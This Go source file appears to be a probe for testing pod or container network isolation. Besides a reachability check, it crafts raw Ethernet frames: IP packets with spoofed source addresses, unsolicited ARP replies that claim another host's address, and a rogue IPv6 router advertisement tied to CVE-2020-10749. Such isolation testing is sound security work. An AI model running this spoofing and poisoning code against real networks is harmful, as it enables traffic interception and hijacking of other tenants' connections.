package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// connect tries to reach addresses: tcp, udp (where only an answer counts), unix (with
// @ for the abstract ones).
func connect(args []string) error {
	var all sync.WaitGroup
	for _, address := range args[1:] {
		all.Go(func() { fmt.Println(address, result(reach(args[0], address))) })
	}
	all.Wait()
	return nil
}

func reach(network, address string) error {
	c, err := net.DialTimeout(network, address, time.Second)
	if err != nil {
		if e, ok := err.(net.Error); ok && e.Timeout() {
			return unix.ETIMEDOUT
		}
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(time.Second))
	if _, err := c.Write([]byte("escape\n")); err != nil {
		return err
	}
	if _, err := c.Read(make([]byte, 64)); err != nil {
		if e, ok := err.(net.Error); ok && e.Timeout() {
			return unix.ETIMEDOUT
		}
		return err
	}
	return nil
}

// frames sends frames past the network stack of this pod, with whatever addresses:
//
//	frames udp SOURCE TARGET:PORT...   datagrams
//	frames syn SOURCE TARGET:PORT...   the begin of a TCP connection
//	frames arp SOURCE TARGET           an answer that nobody asked for: SOURCE is here
//	frames advertisement               a router advertisement: this is the way to everywhere (CVE-2020-10749)
func frames(args []string) error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	to, err := gatewayMAC()
	if err != nil {
		return err
	}
	send := func(kind uint16, payload []byte, mac net.HardwareAddr) {
		frame := append(append(append([]byte{}, mac...), link.HardwareAddr...), byte(kind>>8), byte(kind))
		err := unix.Sendto(fd, append(frame, payload...), 0, &unix.SockaddrLinklayer{Ifindex: link.Index, Halen: 6, Protocol: htons(kind)})
		fmt.Println("sent", args, result(err))
	}
	everybody := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	switch args[0] {
	case "arp":
		source, target := netip.MustParseAddr(args[1]).As4(), netip.MustParseAddr(args[2]).As4()
		payload := []byte{0, 1, 8, 0, 6, 4, 0, 2}
		payload = append(append(payload, link.HardwareAddr...), source[:]...)
		payload = append(append(payload, to...), target[:]...)
		send(unix.ETH_P_ARP, payload, to)
		send(unix.ETH_P_ARP, payload, everybody)
	case "advertisement":
		send(unix.ETH_P_IPV6, advertisement(link.HardwareAddr), net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1})
		send(unix.ETH_P_IPV6, advertisement(link.HardwareAddr), to)
	default:
		source := netip.MustParseAddr(args[1])
		for _, t := range args[2:] {
			target := netip.MustParseAddrPort(t)
			kind := uint16(unix.ETH_P_IP)
			if source.Is6() {
				kind = unix.ETH_P_IPV6
			}
			send(kind, packet(args[0], source, target), to)
		}
	}
	return nil
}

func htons(n uint16) uint16 { return n<<8 | n>>8 }

// gatewayMAC is the machine's end of the link, found by talking to the gateway.
func gatewayMAC() (net.HardwareAddr, error) {
	for range 50 {
		c, err := net.Dial("udp", "169.254.1.1:9")
		if err == nil {
			c.Write([]byte("x"))
			c.Close()
		}
		time.Sleep(20 * time.Millisecond)
		table, err := readNeighbours()
		if err != nil {
			return nil, err
		}
		if mac, ok := table["169.254.1.1"]; ok {
			return mac, nil
		}
	}
	return nil, fmt.Errorf("the gateway does not answer")
}

func sum(data []byte, start uint32) uint16 {
	for i := 0; i+1 < len(data); i += 2 {
		start += uint32(binary.BigEndian.Uint16(data[i:]))
	}
	if len(data)%2 == 1 {
		start += uint32(data[len(data)-1]) << 8
	}
	for start>>16 != 0 {
		start = start&0xffff + start>>16
	}
	return ^uint16(start)
}

// packet is an IP packet with a checksum that holds: a machine drops others anyway.
func packet(kind string, source netip.Addr, target netip.AddrPort) []byte {
	protocol, body := byte(unix.IPPROTO_UDP), make([]byte, 8+7)
	binary.BigEndian.PutUint16(body[0:], 40000)
	binary.BigEndian.PutUint16(body[2:], target.Port())
	sumAt := 6
	if kind == "syn" {
		protocol, body, sumAt = unix.IPPROTO_TCP, make([]byte, 20), 16
		binary.BigEndian.PutUint16(body[0:], 40000)
		binary.BigEndian.PutUint16(body[2:], target.Port())
		body[12], body[13] = 5<<4, 2
		binary.BigEndian.PutUint16(body[14:], 1024)
	} else {
		binary.BigEndian.PutUint16(body[4:], uint16(len(body)))
		copy(body[8:], "escape\n")
	}
	pseudo := append(append([]byte{}, source.AsSlice()...), target.Addr().AsSlice()...)
	start := uint32(protocol) + uint32(len(body))
	partial := ^sum(pseudo, start)
	binary.BigEndian.PutUint16(body[sumAt:], sum(body, uint32(partial)))
	return append(header(protocol, len(body), source, target.Addr()), body...)
}

func header(protocol byte, length int, source, target netip.Addr) []byte {
	if source.Is6() {
		h := make([]byte, 8, 40)
		h[0], h[6], h[7] = 6<<4, protocol, 64
		binary.BigEndian.PutUint16(h[4:], uint16(length))
		return append(append(h, source.AsSlice()...), target.AsSlice()...)
	}
	h := make([]byte, 12, 20)
	h[0], h[8], h[9] = 4<<4|5, 64, protocol
	binary.BigEndian.PutUint16(h[2:], uint16(20+length))
	h = append(append(h, source.AsSlice()...), target.AsSlice()...)
	binary.BigEndian.PutUint16(h[10:], sum(h, 0))
	return h
}

// advertisement says that this pod is a router with a prefix of its own.
func advertisement(mac net.HardwareAddr) []byte {
	source := netip.MustParseAddr("fe80::bad")
	target := netip.MustParseAddr("ff02::1")
	body := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	body = append(append(body, 1, 1), mac...)
	body = append(body, 3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0)
	prefix := netip.MustParseAddr("2001:db8:bad::").As16()
	body = append(body, prefix[:]...)
	pseudo := append(append([]byte{}, source.AsSlice()...), target.AsSlice()...)
	partial := ^sum(pseudo, uint32(unix.IPPROTO_ICMPV6)+uint32(len(body)))
	binary.BigEndian.PutUint16(body[2:], sum(body, uint32(partial)))
	h := header(unix.IPPROTO_ICMPV6, len(body), source, target)
	h[7] = 255
	return append(h, body...)
}
